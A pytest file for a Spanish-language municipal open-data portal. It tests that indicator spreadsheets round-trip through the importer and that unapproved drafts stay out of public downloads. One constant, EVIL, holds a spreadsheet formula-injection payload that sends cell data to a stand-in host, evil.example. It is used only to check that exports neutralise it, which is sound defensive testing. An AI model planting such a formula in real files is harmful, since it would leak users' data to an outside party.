"""The public indicator spreadsheets are the import format (docs/open-data.md, "The one
indicator format"): a file downloaded from /datos/, edited in a spreadsheet program, imports
back through the real import path with exactly the edits made; the read-only columns the
portal adds are recognised and skipped; a draft never reaches the public files; and a hostile
cell that came in through an import is still inert on the way out."""

import csv
import datetime
import io
import os
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.translation import gettext

from importer.plan import build_plan
from opendata.exports import SpanishSpreadsheet
from rendicion.models import Indicator, IndicatorMeasurement, IndicatorYearTarget, SdgGoal
from tests.factories import (
    DepartmentFactory,
    IndicatorFactory,
    IndicatorIndexFactory,
    MeasurementFactory,
    home_page,
)
from tests.spreadsheets import run_import, write, written_counts

pytestmark = pytest.mark.django_db

FIXTURES = Path(__file__).resolve().parent.parent / "data" / "libreoffice"
EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
READ_ONLY = [
    "Última medición",
    "Periodo de la última medición",
    "Fecha de corte",
    "Porcentaje de avance",
    "Estado del avance",
    "URL",
]
DRAFT_NAME = "Nombre que espera aprobación"


def build_public_data():
    """The indicators the tests (and tests/data/libreoffice/README.md) download: numbers,
    texts, a baseline with both, SDG targets and goals, year targets, several periods, a
    code with a leading zero; plus an unapproved indicator and an approved one with a change
    waiting for approval, neither of which the public files may show."""
    IndicatorIndexFactory(parent=home_page())
    education = DepartmentFactory(name="Secretaría de Educación", slug="educacion")
    health = DepartmentFactory(name="Secretaría de Salud", slug="salud")
    teachers = IndicatorFactory(
        code="0220100900",
        name="Docentes beneficiados con estrategias de mejoramiento",
        baseline_value=Decimal(400),
        target_value=Decimal(1050),
        department=education,
        plan_line="Palmira pa'lante con educación",
        programme="Entornos escolares",
        sdg_targets=["4.1", "4.c"],
    )
    MeasurementFactory(
        indicator=teachers, period="2020", date=datetime.date(2020, 12, 31), value=Decimal(520)
    )
    MeasurementFactory(
        indicator=teachers,
        period="2021-S1",
        date=datetime.date(2021, 6, 30),
        value=Decimal("612.5"),
    )
    MeasurementFactory(indicator=teachers, period="2021", value=Decimal(800))
    IndicatorYearTarget.objects.create(indicator=teachers, year=2021, value=Decimal(700))
    IndicatorYearTarget.objects.create(indicator=teachers, year=2022, value=Decimal(900))
    mortality = IndicatorFactory(
        code="",
        slug="mortalidad-infantil",
        name="Tasa de mortalidad infantil en menores de un año",
        kind=Indicator.Kind.RESULT,
        unit="Muertes por cada 1.000 nacidos vivos",
        baseline_value=Decimal("9.1"),
        target_value=Decimal("8.0005"),
        direction=Indicator.DirectionChoices.DECREASE,
        department=health,
        sdg_targets=["3.2"],
    )
    MeasurementFactory(
        indicator=mortality,
        period="2021-S1",
        date=datetime.date(2021, 6, 30),
        value=Decimal("8.6"),
    )
    words = IndicatorFactory(
        code="220199999",
        name="Instituciones con mejoramiento de clasificación de plantel",
        kind=Indicator.Kind.RESULT,
        baseline_value=None,
        baseline_text="08 IE clasificación C 08 IE clasificación B",
        target_value=None,
        target_text="06 IEO con mejoramiento de clasificación de plantel",
        department=education,
    )
    IndicatorYearTarget.objects.create(indicator=words, year=2022, text="03 IEO mejoradas")
    both = IndicatorFactory(
        code="330100200",
        name="Instituciones con clasificación A",
        baseline_value=Decimal(24),
        baseline_text="24 IE clasificación A",
        target_value=Decimal(30),
        direction=Indicator.DirectionChoices.MAINTAIN,
        department=health,
    )
    both.sdg_goals.set(SdgGoal.objects.filter(number=15))  # a goal without a target: "ODS 15"
    IndicatorFactory(
        code="220100001", name="Indicador sin aprobar", department=education, live=False
    )
    pending = IndicatorFactory(
        code="330100100",
        name="Cobertura de vacunación",
        unit="Porcentaje",
        baseline_value=Decimal(90),
        target_value=Decimal(95),
        department=health,
    )
    MeasurementFactory(indicator=pending, period="2021", value=Decimal(92))
    # A change saved for approval: a revision, the row stays the approved version.
    pending.name = DRAFT_NAME
    pending.target_value = Decimal(99)
    pending.measurements.add(
        IndicatorMeasurement(period="2022", date=datetime.date(2022, 12, 31), value=Decimal(97))
    )
    pending.save_revision()


@pytest.fixture
def public_data():
    build_public_data()


def snapshot(indicators=None):
    """What the format carries, per indicator, as stored."""
    indicators = Indicator.objects.all() if indicators is None else indicators
    data = {}
    for indicator in indicators.prefetch_related(
        "sdg_targets", "sdg_goals", "measurements", "year_targets"
    ):
        data[indicator.code or indicator.name] = {
            **{field: getattr(indicator, field) for field in Indicator.DATA_FIELDS},
            "code": indicator.code,
            "live": indicator.live,
            "sdg_targets": sorted(target.code for target in indicator.sdg_targets.all()),
            "sdg_goals": sorted(goal.number for goal in indicator.sdg_goals.all()),
            "measurements": sorted(
                (m.period, m.date, m.value) for m in indicator.measurements.all()
            ),
            "year_targets": sorted((t.year, t.value, t.text) for t in indicator.year_targets.all()),
        }
    return data


def download(client, extension):
    response = client.get(reverse("opendata_indicators", args=[extension]))
    assert response.status_code == 200
    return response.content


def changes_of(plan):
    assert not plan.errors, [str(problem) for problem in plan.errors]
    return {
        item.code or item.name: [(c.label, c.old, c.new) for c in item.changes]
        for item in plan.to_update
    }


def read_only_notices(plan):
    return [notice for notice in plan.notices if notice.code == "read_only_columns"]


def assert_imports_back_unchanged(path):
    """Into the same database: nothing to do, nothing written; into a database without the
    indicators: the approved ones come back as they were."""
    public = snapshot(Indicator.objects.filter(live=True))
    plan = build_plan(path.read_bytes(), path.name, update=True)
    assert changes_of(plan) == {}
    assert not plan.to_create
    assert len(plan.unchanged) == len(public)
    assert [n.code for n in plan.notices] == ["read_only_columns"]  # nothing else ignored

    counts = written_counts()
    out, _err = run_import(path, "--update")
    assert written_counts() == counts
    assert (
        gettext("Imported: %(created)s created, %(updated)s updated, %(unchanged)s unchanged.")
        % {"created": 0, "updated": 0, "unchanged": len(public)}
        in out
    )

    Indicator.objects.all().delete()
    run_import(path)
    assert snapshot() == public


# --- Each format, downloaded and imported back ----------------------------------------------


@pytest.mark.parametrize("extension", ["xlsx", "csv", "ods"])
def test_a_public_download_imports_back_unchanged(tmp_path, client, public_data, extension):
    path = write(tmp_path, f"indicadores.{extension}", download(client, extension))
    assert_imports_back_unchanged(path)


def test_public_xlsx_edited_with_openpyxl_imports_back_with_exactly_those_changes(
    tmp_path, client, public_data
):
    workbook = openpyxl.load_workbook(io.BytesIO(download(client, "xlsx")))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    assert header[-len(READ_ONLY) :] == READ_ONLY
    rows = {row[header.index("Código")].value: row for row in sheet.iter_rows(min_row=2)}
    rows["0220100900"][header.index("Avance 2021")].value = 850
    rows["220199999"][header.index("Indicador")].value = "Instituciones educativas mejoradas"
    # Someone "corrects" a computed column too: read-only, so it changes nothing.
    rows["0220100900"][header.index("Porcentaje de avance")].value = 99
    output = io.BytesIO()
    workbook.save(output)
    path = write(tmp_path, "editado.xlsx", output.getvalue())

    plan = build_plan(path.read_bytes(), path.name, update=True)
    assert changes_of(plan) == {
        "0220100900": [("Avance 2021", "800", "850")],
        "220199999": [
            (
                "Indicador",
                "Instituciones con mejoramiento de clasificación de plantel",
                "Instituciones educativas mejoradas",
            )
        ],
    }
    (notice,) = read_only_notices(plan)
    assert notice.row == 1
    for column in READ_ONLY:
        assert f"“{column}”" in notice.message

    expected = snapshot()
    expected["220199999"]["name"] = "Instituciones educativas mejoradas"
    expected["0220100900"]["measurements"] = [
        (period, date, Decimal(850) if period == "2021" else value)
        for period, date, value in expected["0220100900"]["measurements"]
    ]
    run_import(path, "--update")
    assert snapshot() == expected


def test_public_csv_edited_imports_back_with_exactly_those_changes(tmp_path, client, public_data):
    text = download(client, "csv").decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text), dialect=SpanishSpreadsheet))
    code, name, measured = (header.index(h) for h in ("Código", "Indicador", "Avance 2021-S1"))
    for row in rows:
        if row[code] == "":
            row[measured] = "8,4"  # a decimal comma, as a Spanish spreadsheet writes it
        if row[code] == "330100200":
            row[name] = "Instituciones educativas con clasificación A"
    output = io.StringIO(newline="")
    writer = csv.writer(output, dialect=SpanishSpreadsheet)
    writer.writerows([header, *rows])
    path = write(tmp_path, "editado.csv", ("\ufeff" + output.getvalue()).encode("utf-8"))

    plan = build_plan(path.read_bytes(), path.name, update=True)
    assert changes_of(plan) == {
        "Tasa de mortalidad infantil en menores de un año": [("Avance 2021-S1", "8,6", "8,4")],
        "330100200": [
            (
                "Indicador",
                "Instituciones con clasificación A",
                "Instituciones educativas con clasificación A",
            )
        ],
    }
    assert len(read_only_notices(plan)) == 1

    expected = snapshot()
    expected["330100200"]["name"] = "Instituciones educativas con clasificación A"
    mortality = expected["Tasa de mortalidad infantil en menores de un año"]
    mortality["measurements"] = [("2021-S1", datetime.date(2021, 6, 30), Decimal("8.4"))]
    run_import(path, "--update")
    assert snapshot() == expected


def test_the_admin_preview_says_the_computed_columns_are_read_only(client, public_data):
    data = download(client, "ods")
    admin = get_user_model().objects.create_superuser("admin", "admin@example.org", "x")
    client.force_login(admin)
    response = client.post(
        reverse("wagtailsnippets_rendicion_indicator:import"),
        {"file": SimpleUploadedFile("indicadores.ods", data), "update": "on"},
    )
    assert response.status_code == 200
    plan = response.context["plan"]
    assert plan.ok and not plan.to_update and not plan.to_create
    (notice,) = read_only_notices(plan)
    assert notice.message in response.content.decode()
    assert "“Porcentaje de avance”" in notice.message
    assert not [n for n in plan.notices if n.code == "ignored_column"]


def test_the_admin_ods_export_imports_back(tmp_path, client, public_data):
    admin = get_user_model().objects.create_superuser("admin", "admin@example.org", "x")
    client.force_login(admin)
    response = client.get(
        reverse("wagtailsnippets_rendicion_indicator:export_matrix") + "?format=ods"
    )
    assert response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    assert "indicadores-formato-plan.ods" in response["Content-Disposition"]
    plan = build_plan(response.content, "indicadores.ods", update=True)
    assert changes_of(plan) == {}
    assert not plan.notices  # the admin export has no read-only columns
    # The admin export has every indicator the user reaches, the unapproved one too.
    assert len(plan.unchanged) == Indicator.objects.count()


# --- Only approved data ---------------------------------------------------------------------


def sheet_texts(extension, content):
    if extension == "csv":
        return content.decode("utf-8-sig")
    if extension == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return "\n".join(str(cell.value) for row in sheet.iter_rows() for cell in row)
    return zipfile.ZipFile(io.BytesIO(content)).read("content.xml").decode()


@pytest.mark.parametrize("extension", ["xlsx", "csv", "ods"])
def test_a_change_waiting_for_approval_never_reaches_the_public_files(
    client, public_data, extension
):
    text = sheet_texts(extension, download(client, extension))
    assert "Cobertura de vacunación" in text  # the approved version
    assert DRAFT_NAME not in text
    assert "Avance 2022" not in text  # the draft's measurement
    assert "Indicador sin aprobar" not in text
    assert "220100001" not in text


# --- Formula-like text ----------------------------------------------------------------------


def test_a_hostile_cell_imported_back_is_still_inert_on_the_way_out(tmp_path, client, public_data):
    text = download(client, "csv").decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text), dialect=SpanishSpreadsheet))
    for row in rows:
        if row[header.index("Código")] == "330100200":
            row[header.index("Indicador")] = EVIL  # typed in as it is, no apostrophe
    output = io.StringIO(newline="")
    csv.writer(output, dialect=SpanishSpreadsheet).writerows([header, *rows])
    path = write(tmp_path, "hostil.csv", output.getvalue().encode("utf-8"))
    run_import(path, "--update")
    assert Indicator.objects.get(code="330100200").name == EVIL

    # XLSX: a text cell with the quote prefix, never a formula.
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, "xlsx"))).active
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert cell.data_type == "s" and cell.quotePrefix
    # CSV: the apostrophe in front, which the import strips again.
    served = download(client, "csv").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(served), dialect=SpanishSpreadsheet) for c in row]
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    # ODS: a string cell, and no formula anywhere in the sheet.
    content = zipfile.ZipFile(io.BytesIO(download(client, "ods"))).read("content.xml").decode()
    assert "table:formula" not in content
    assert 'office:value-type="string"><text:p>=HYPERLINK(' in content
    # And the file still imports back with the same name.
    ods = write(tmp_path, "hostil.ods", download(client, "ods"))
    assert changes_of(build_plan(ods.read_bytes(), ods.name, update=True)) == {}


# --- A copy saved by LibreOffice ------------------------------------------------------------


@pytest.mark.parametrize("name", ["indicadores-libreoffice.xlsx", "indicadores-libreoffice.ods"])
def test_a_copy_saved_by_libreoffice_imports_back(tmp_path, public_data, name):
    """The committed fixtures are public downloads of ``build_public_data()`` saved again by
    LibreOffice Calc (tests/data/libreoffice/README.md says how)."""
    path = tmp_path / name
    shutil.copy(FIXTURES / name, path)
    assert_imports_back_unchanged(path)


@pytest.mark.skipif(
    os.environ.get("MAKE_LIBREOFFICE_FIXTURES") != "1",
    reason="writes tests/data/libreoffice/ with LibreOffice; see the README there",
)
def test_make_libreoffice_fixtures(tmp_path, client, public_data):
    FIXTURES.mkdir(parents=True, exist_ok=True)
    for extension in ("xlsx", "ods"):
        source = write(
            tmp_path, f"indicadores-libreoffice.{extension}", download(client, extension)
        )
        soffice = shutil.which("soffice")
        assert soffice, "LibreOffice is not installed: apt-get install -y libreoffice-calc-nogui"
        subprocess.run(  # noqa: S603 (our own arguments, no shell)
            [soffice, "--headless", "--convert-to", extension, "--outdir", str(FIXTURES), source],
            check=True,
            env={**os.environ, "HOME": str(tmp_path)},  # a fresh LibreOffice profile
        )
